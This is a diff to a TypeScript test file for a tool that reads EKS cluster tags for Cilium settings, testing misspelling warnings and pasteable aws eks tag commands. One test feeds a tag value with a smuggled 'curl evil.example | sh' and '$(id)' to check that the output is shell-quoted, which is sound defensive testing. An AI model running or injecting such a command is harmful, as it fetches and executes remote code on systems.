@@ -9,6 +9,7 @@ describe("every tag of docs/architecture.md", () => {
     ["enable_cilium", "false", { enable: false }],
     ["cilium_version", "1.19.6", { version: "1.19.6" }],
     ["cilium_version", "1.19", { version: "1.19" }],
+    ["cilium_version", "v1.19.6", { version: "1.19.6" }],
     ["cilium_encryption", "wireguard", { encryption: "wireguard" }],
     ["cilium_encryption", "none", { encryption: "none" }],
     ["cilium_mutual_auth", "spire", { mutualAuth: "spire" }],
@@ -38,7 +39,6 @@ describe("every tag of docs/architecture.md", () => {
   it.each([
     ["enable_cilium", "yes", "true or false"],
     ["cilium_version", "latest", "a release such as 1.19.6 or a minor such as 1.19"],
-    ["cilium_version", "v1.19.6", "a release such as 1.19.6 or a minor such as 1.19"],
     ["cilium_version", "1", "a release such as 1.19.6 or a minor such as 1.19"],
     ["cilium_encryption", "ipsec", "wireguard, none"],
     ["cilium_mutual_auth", "ztunnel", "spire, none"],
@@ -58,7 +58,7 @@ describe("every tag of docs/architecture.md", () => {
           code: "tag-not-understood",
           severity: "blocking",
           message: `Tag ${tag} has the value "${value}", which is not understood.`,
-          remedy: `Set ${tag} to one that is; allowed is ${allowed}.`,
+          remedy: expect.stringMatching(new RegExp(`llowed is ${allowed}`)),
         },
       ],
     });
@@ -80,6 +80,66 @@ describe("reading the tags of a cluster", () => {
       { code: "tag-unknown", message: "Tag cilium_encrytion is not known." },
     ]);
     expect(tagObjections[0]?.remedy).toContain("cilium_encryption");
+  });
+
+  const arn = "arn:aws:eks:eu-west-1:111122223333:cluster/demo";
+  const tagged = (pair: string) => `aws eks tag-resource --resource-arn ${arn} --tags ${pair}`;
+  const untagged = (key: string) => `aws eks untag-resource --resource-arn ${arn} --tag-keys ${key}`;
+
+  it.each([
+    ["Enable_Cilium", "enable_cilium"],
+    ["enable-cilium", "enable_cilium"],
+    ["enabled_cilium", "enable_cilium"],
+    ["cilium-paused", "cilium_paused"],
+    ["cilium.paused", "cilium_paused"],
+    ["Cilium_Version", "cilium_version"],
+    ["cilium-verison", "cilium_version"],
+    ["CILIUM_L7", "cilium_l7"],
+  ])("warns of %s, which looks like %s and does nothing", (tag, meant) => {
+    expect(readTags({ enable_cilium: "true", [tag]: "true" }, arn)).toEqual({
+      requested: { enable: true },
+      tagObjections: [
+        {
+          code: "tag-misspelt",
+          severity: "warning",
+          message: `Tag ${tag} does nothing: it is no tag of eks-cilium, though it looks like ${meant}.`,
+          remedy: `Did you mean ${meant}? ${tagged(`${meant}=true`)} && ${untagged(tag)}`,
+        },
+      ],
+    });
+  });
+
+  it.each([
+    [
+      "cilium_verison",
+      "1.19",
+      `Did you mean cilium_version? ${tagged("cilium_version=1.19")} && ${untagged("cilium_verison")}`,
+    ],
+    [
+      "cilium_colour",
+      "red",
+      `Remove it: ${untagged("cilium_colour")} ; known are enable_cilium, cilium_version,`,
+    ],
+    ["enable_cilium", "yes", `Did you mean true? ${tagged("enable_cilium=true")} ;`],
+    ["cilium_paused", "ture", `Did you mean true? ${tagged("cilium_paused=true")} ;`],
+    ["cilium_encryption", "off", `Did you mean none? ${tagged("cilium_encryption=none")} ;`],
+    ["cilium_encryption", "WireGaurd", `Did you mean wireguard? ${tagged("cilium_encryption=wireguard")} ;`],
+    ["cilium_encryption", "ipsec", `Allowed is wireguard, none: ${tagged("cilium_encryption=wireguard")}`],
+    ["cilium_hubble", "false", `Did you mean off? ${tagged("cilium_hubble=off")} ;`],
+    ["cilium_version", "latest", `To do without it: ${untagged("cilium_version")}`],
+  ])("gives a line to paste for %s=%s", (tag, value, remedy) => {
+    const [objection] = readTags({ [tag]: value }, arn).tagObjections;
+    expect(objection?.remedy).toContain(remedy);
+  });
+
+  it("writes lines that stay words of a shell, whatever a tag holds", () => {
+    const [objection] = readTags(
+      { cilium_verison: "1.19'; curl evil.example | sh; '$(id)" },
+      arn,
+    ).tagObjections;
+    expect(objection?.remedy).toContain(
+      `--tags 'cilium_version=1.19'\\''; curl evil.example | sh; '\\''$(id)' && `,
+    );
   });
 
   it("passes over the tags of other owners, however they look", () => {
